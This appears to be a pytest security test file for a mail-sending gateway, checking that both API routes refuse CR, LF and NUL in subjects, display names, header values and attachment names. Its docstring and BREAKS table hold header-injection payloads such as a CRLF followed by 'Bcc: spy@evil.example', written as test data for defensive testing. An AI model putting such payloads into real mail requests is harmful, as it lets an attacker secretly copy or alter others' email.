"""Threat: a line break in a one-line field writes headers of the attacker's choosing.

Attacker: any client of `POST /api/v3/mail/send`. A subject, a display name or a header value
ends up in a header line of the mail; a CR or LF inside it ends that line and starts another
(`"subject": "Hi\\r\\nBcc: spy@evil.example"`), and NUL cuts it short in many a mail program.
The v1 route refused CR, LF and NUL in its single-line fields; the v3 route passed them to
SendGrid as they came.

What the gateway does: both routes apply the same rule to the same fields: subjects (and each
personalization's), display names (from, reply_to, to, cc, bcc), header values (and each
personalization's), attachment file names and content ids refuse CR, LF and NUL, naming the
field, and nothing is queued.
"""

from __future__ import annotations

import pytest

from tests.security.hostile_requests import (
    InMemoryGateway,
    Route,
    field_name,
    pointers_in,
    v1_message,
    v3_mail,
    with_value,
)

# Each one-line field, by route: its pointer in the sample body, and what it holds there.
ONE_LINE_FIELDS: dict[str, tuple[Route, str, str]] = {
    "v1 subject": ("v1", "#/subject", "Your invoice"),
    "v1 from name": ("v1", "#/from/name", "Billing"),
    "v1 to name": ("v1", "#/to/0/name", "Ann"),
    "v1 cc name": ("v1", "#/cc/0/name", "Carol"),
    "v1 bcc name": ("v1", "#/bcc/0/name", "Audit"),
    "v1 reply_to name": ("v1", "#/reply_to/name", "Support"),
    "v1 header value": ("v1", "#/headers/X-Invoice", "42"),
    "v1 attachment filename": ("v1", "#/attachments/0/filename", "invoice.pdf"),
    "v1 attachment content_id": ("v1", "#/attachments/0/content_id", "inv42"),
    "v3 subject": ("v3", "#/subject", "Your invoice"),
    "v3 personalization subject": ("v3", "#/personalizations/0/subject", "Your invoice, Ann"),
    "v3 from name": ("v3", "#/from/name", "Billing"),
    "v3 to name": ("v3", "#/personalizations/0/to/0/name", "Ann"),
    "v3 cc name": ("v3", "#/personalizations/0/cc/0/name", "Carol"),
    "v3 bcc name": ("v3", "#/personalizations/0/bcc/0/name", "Audit"),
    "v3 reply_to name": ("v3", "#/reply_to/name", "Support"),
    "v3 header value": ("v3", "#/headers/X-Invoice", "42"),
    "v3 personalization header value": ("v3", "#/personalizations/0/headers/X-Invoice", "42"),
    "v3 attachment filename": ("v3", "#/attachments/0/filename", "invoice.pdf"),
    "v3 attachment content_id": ("v3", "#/attachments/0/content_id", "inv42"),
}
BREAKS = {
    "CR LF": "\r\nBcc: spy@evil.example",
    "LF": "\nBcc: spy@evil.example",
    "CR": "\r",
    "NUL": "\x00",
}


def sample(route: Route) -> dict[str, object]:
    return v1_message() if route == "v1" else v3_mail()


@pytest.mark.parametrize("route", ["v1", "v3"])
def test_should_accept_the_samples_as_they_are(route: Route) -> None:
    gateway = InMemoryGateway()

    gateway.accept(route, sample(route))

    assert len(gateway.queue.messages) == 1


@pytest.mark.parametrize("added", BREAKS.values(), ids=BREAKS.keys())
@pytest.mark.parametrize(
    ("route", "pointer", "value"), ONE_LINE_FIELDS.values(), ids=ONE_LINE_FIELDS.keys()
)
def test_should_refuse_a_line_break_or_nul_in_a_one_line_field_naming_it(
    route: Route, pointer: str, value: str, added: str
) -> None:
    gateway = InMemoryGateway()

    rejection = gateway.refusal(route, with_value(sample(route), pointer, value + added))

    assert pointers_in(route, rejection) == [field_name(route, pointer)]
    message = rejection.problems[0].detail
    assert any(words in message for words in ("CR, LF or NUL", "CRLF", "NUL"))
